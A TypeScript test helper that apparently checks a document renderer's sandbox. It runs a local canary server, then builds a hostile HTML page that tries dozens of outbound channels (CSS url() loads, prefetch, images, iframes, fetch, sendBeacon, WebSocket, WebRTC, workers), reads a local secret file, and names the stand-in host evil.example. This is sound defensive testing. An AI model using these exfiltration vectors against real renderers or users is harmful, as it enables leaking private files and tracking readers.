import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { isIPv4 } from 'node:net';

/** A server on this machine that nothing may reach: HTTP, bare connections and UDP. */
export interface Canary extends AsyncDisposable {
  readonly http: string;
  readonly tcpPort: number;
  readonly udpPort: number;
  /** Everything that came, e.g. `GET /img`. */
  readonly heard: readonly string[];
}

export async function startCanary(): Promise<Canary> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*').end('x');
  });
  server.on('connection', () => heard.push('a connection'));
  server.listen(0, '127.0.0.1');
  const udp = createSocket('udp4');
  udp.on('message', () => heard.push('a datagram'));
  udp.bind(0, '127.0.0.1');
  await Promise.all([once(server, 'listening'), once(udp, 'listening')]);
  const address = server.address();
  if (address === null || typeof address === 'string' || !isIPv4(address.address))
    throw new Error('The canary has no port.');
  return {
    http: `http://127.0.0.1:${address.port}`,
    tcpPort: address.port,
    udpPort: udp.address().port,
    heard,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await Promise.all([
        new Promise((done) => server.close(done)),
        new Promise<void>((done) => udp.close(done)),
      ]);
    },
  };
}

/** A document that tries every way out. `file` is the address of a secret file. */
export function hostileDocument(canary: Canary, file: string, policy: string): string {
  const at = canary.http;
  return `<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="${policy}">
<meta http-equiv="refresh" content="0;url=${at}/refresh"><base href="${at}/base/">
<link rel="stylesheet" href="${at}/link.css"><link rel="prefetch" href="${at}/prefetch"><link rel="preload" as="image" href="${at}/preload">
<link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="//evil.example"><link rel="icon" href="${at}/icon"><link rel="modulepreload" href="${at}/module.js">
<link rel="manifest" href="${at}/manifest">
<style>@import url(${at}/import.css);@font-face{font-family:z;src:url(${at}/font)}p{font-family:z;background:url(${at}/background)}
i{background:-webkit-image-set(url(${at}/imageset) 1x)}li{list-style-image:url(${at}/liststyle)}q::before{content:url(${at}/content)}
b{cursor:url(${at}/cursor),auto;mask-image:url(${at}/mask)}a[href^=h]{background:url(${at}/exfiltrated)}</style></head><body>
<p>text</p><i style="display:block">i</i><ul><li>x</ul><q>q</q><b>b</b><img src="${at}/img"><img srcset="${at}/srcset 1x">
<picture><source srcset="${at}/source"><img></picture><video poster="${at}/poster" src="${at}/video"></video><audio src="${at}/audio" preload="auto"></audio>
<object data="${at}/object"></object><embed src="${at}/embed"><iframe src="${at}/iframe"></iframe><iframe srcdoc="<img src='${at}/srcdoc'>"></iframe>
<iframe src="${file}"></iframe><object data="${file}" type="text/plain"></object><embed src="${file}" type="text/plain">
<svg data-marpit-svg><image href="${at}/svgimage" width="10" height="10"/><use href="${at}/svguse#a"/><style>@import url(${at}/svgimport.css);</style></svg>
<input type="image" src="${at}/input"><table background="${at}/table"><tr><td>x</table><math><mi href="${at}/math">x</mi></math>
<a href="${at}/ping" ping="${at}/ping2">a</a><form action="${at}/form"><input name="a"></form>
<script>document.title='RAN';fetch('${at}/fetch',{mode:'no-cors'});new Image().src='${at}/jsimage';navigator.sendBeacon('${at}/beacon','x');
try{new WebSocket('ws://127.0.0.1:${canary.tcpPort}/ws')}catch(e){}try{new EventSource('${at}/events')}catch(e){}
try{const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${canary.udpPort}'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}catch(e){}
fetch('${file}').then(r=>r.text()).then(t=>document.body.append(t)).catch(()=>{});
try{new Worker(URL.createObjectURL(new Blob(["fetch('${at}/worker',{mode:'no-cors'})"])))}catch(e){}</script>
<img src="x" onerror="new Image().src='${at}/onerror'"></body></html>`;
}
